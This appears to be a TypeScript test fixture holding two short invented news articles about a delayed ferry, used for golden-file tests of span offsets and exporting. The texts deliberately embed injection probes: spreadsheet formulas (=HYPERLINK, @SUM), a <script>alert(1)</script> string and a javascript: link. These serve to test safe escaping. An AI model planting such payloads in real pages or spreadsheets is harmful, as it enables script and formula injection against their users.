/**
 * The two texts of the story for golden files. Emoji and a combining accent stand before the first span and guard the
 * unit of offsets; formulas, markup, a right-to-left word and a zero-width space stand where an exporter could trip.
 */
import { type Span, spanOf } from '@onrecord/schema';
import { textIdOf } from '@onrecord/schema/ids';

/** The text of the first article, a page of the web. */
export const FIRST = [
  '⛴️🌊 Cafe\u0301 owners await the ferry',
  'By Ronja Falk',
  'SKARVHOLM - “Cafe\u0301s stay open,” harbour master Tove Aasen told Radio Holm on Monday.',
  'She said the ferry would be “back by <b>noon</b>, at the latest” and that tickets stay valid.',
  'Fares are =HYPERLINK("https://fares.example/?a="&A1), according to Holm & Lines <Ltd>.',
  'The company, based in Skarvholm, denied that the ferry was unsafe.',
  'One man on the quay called it “a <script>alert(1)</script> of a plan”.',
  'Deputy mayor Ilja Brandt, who is said to advise Holm & Lines, declined to comment.',
  '',
].join('\n');

/** The text of the second article, a document of two pages. */
export const SECOND = [
  '🚢 Ferry due “by noon”',
  'The ferry will be “back by noon”, Aasen said, or בקרוב\u200b as',
  'the islanders say.',
  '“Cafe\u0301s stay open,” the harbour master said.',
  '@SUM(1+1) is what a leaflet, [see here](javascript:alert(1)), says; -2 for children.',
  '',
].join('\n');

/** The id of the first text. */
export const FIRST_ID = textIdOf(FIRST);
/** The id of the second text. */
export const SECOND_ID = textIdOf(SECOND);

/** The first place of the words in the first text. */
export function inFirst(words: string): Span {
  return placeOf(FIRST_ID, FIRST, words);
}

/** The first place of the words in the second text. */
export function inSecond(words: string): Span {
  return placeOf(SECOND_ID, SECOND, words);
}

function placeOf(id: string, text: string, words: string): Span {
  const start = text.indexOf(words);
  return spanOf(id, text, { start, end: start + words.length });
}
